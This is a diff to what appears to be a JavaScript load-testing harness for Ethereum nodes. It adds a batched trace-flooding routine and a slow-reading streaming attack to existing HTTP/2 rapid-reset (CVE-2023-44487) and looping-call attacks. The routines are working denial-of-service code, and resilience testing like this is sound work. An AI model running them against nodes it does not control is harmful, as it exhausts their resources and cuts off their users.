@@ -50,12 +50,19 @@ const ATTACKS = {
     }),
   /** Calls that are reset as soon as they are opened (CVE-2023-44487), on four connections at a time. */
   resets: (to, size, seen) => together(4, async () => seen(await resetting(to.grpc, size))),
-  /** Traces of every step of a loop, some of them just short enough to be answered. */
+  /** Traces of every step of a loop in batches, some of them just short enough to be answered. */
   traces: (to, size, seen) =>
     together(size, async (at) => {
-      const gas = `0x${(at % 2 === 0 ? 2_000_000 : 400_000).toString(16)}`;
-      seen(await post(to.eth_http, rpc('debug_traceCall', [...looping(gas), { stateOverrides: code() }])));
+      const gas = at % 2 === 0 ? 2_000_000 : 400_000;
+      seen(await post(to.eth_http, `[${tracing(gas)}]`));
     }),
+  /** Traces of every step that are streamed: every second client stops reading and then leaves. */
+  streams: (to, size, seen) =>
+    together(size, async (at) =>
+      seen(
+        at % 2 === 0 ? await leaving(to.eth_http, tracing(50_000_000)) : await post(to.eth_http, tracing(2_000_000)),
+      ),
+    ),
   /** One batch of calls that loop. */
   loops: (to, size, seen) => {
     const call = rpc('eth_call', [...looping(), code()]);
@@ -97,6 +104,32 @@ function together(count, run) {
 /** @type {(method: string, params: unknown, id?: unknown) => string} */
 function rpc(method, params, id = 1) {
   return JSON.stringify({ jsonrpc: '2.0', id, method, params });
+}
+
+/** @param {number} gas */
+function tracing(gas) {
+  return rpc('debug_traceCall', [...looping(`0x${gas.toString(16)}`), { stateOverrides: code() }]);
+}
+
+/**
+ * Asks, reads the first bytes of the answer and no more, and leaves half a second later; resolves with those bytes.
+ * @type {(url: string, body: string) => Promise<string>}
+ */
+function leaving(url, body) {
+  const { hostname, port } = new URL(url);
+  return new Promise((resolve) => {
+    const client = connect(Number(port), hostname);
+    client.on('error', (error) => resolve(error.message));
+    client.write(`POST / HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`);
+    client.write(`Content-Length: ${body.length}\r\n\r\n${body}`);
+    client.once('data', (bytes) => {
+      client.pause();
+      setTimeout(() => {
+        client.destroy();
+        resolve(bytes.toString('latin1'));
+      }, 500);
+    });
+  });
 }
 
 function looping(gas = '0x2faf080') {
